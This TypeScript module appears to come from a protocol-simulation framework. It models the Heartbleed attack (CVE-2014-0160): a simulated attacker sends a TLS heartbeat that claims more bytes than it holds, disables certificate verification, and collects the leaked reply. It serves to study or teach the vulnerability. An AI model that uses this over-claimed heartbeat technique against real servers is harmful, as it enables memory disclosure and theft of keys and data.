import { utf8 } from "../bytes/mod.ts";
import { clientConfig, ClientConnection, heartbeatRequest, HONEST_SEAMS } from "../tls/mod.ts";
import type { Endpoint } from "../trace/mod.ts";
import { ProtocolVersion } from "../wire/mod.ts";
import type { Attack } from "./position.ts";

/**
 * Asks a server for more than she gave it: a heartbeat of three bytes that says it holds many
 * (Heartbleed, CVE-2014-0160). She is an ordinary client; nobody else's connection is touched.
 *
 * @param server whom to ask
 * @param claimed how many bytes the heartbeat says it holds
 */
export function heartbleed(server: Endpoint, claimed: number): Attack {
  return (mallory) => {
    const { crypto, ambient, name } = mallory;
    mallory.connect(server, {
      onOpen(line, packet) {
        // She does not care who the server is, as long as it answers.
        const seams = { ...HONEST_SEAMS, verifyChain: () => ({ ok: true, checks: [] }) };
        const versions = [ProtocolVersion["TLS 1.2"]];
        const config = clientConfig({ crypto, seams, versions, heartbeat: true });
        const engine = new ClientConnection(config, ambient);
        const channel = mallory.channel(engine, line, name, mallory.nameOf(server.address));
        let answers = 0;
        channel.handlers = {
          onOpen(cause) {
            if (!engine.heartbeats) {
              mallory.note(`The server speaks no heartbeats, and ${name} leaves`, cause);
              return channel.close(cause);
            }
            mallory.note(`${name} sends three bytes and says that they are ${claimed}`, cause);
            channel.sendHeartbeat(heartbeatRequest(utf8("hi!"), claimed), cause);
            // A server that is silent about the one answers the other, so that there is an end.
            channel.sendHeartbeat(heartbeatRequest(utf8("hi!")), cause);
          },
          onHeartbeat(content, cause) {
            answers++;
            const length = content[1]! * 256 + content[2]!;
            mallory.note(`${name} gets ${length} bytes back`, cause);
            const key = channel.readSecret;
            if (key !== undefined && cause !== undefined) {
              mallory.learn(content, { by: "decrypted", event: cause, key }, cause);
            }
            if (length <= utf8("hi!").length) channel.close(cause);
          },
          onClose(cause) {
            if (engine.heartbeats && answers < 2) {
              mallory.note(`${name} got ${answers} of 2 answers`, cause);
            }
          },
        };
        channel.start(packet);
      },
    });
  };
}
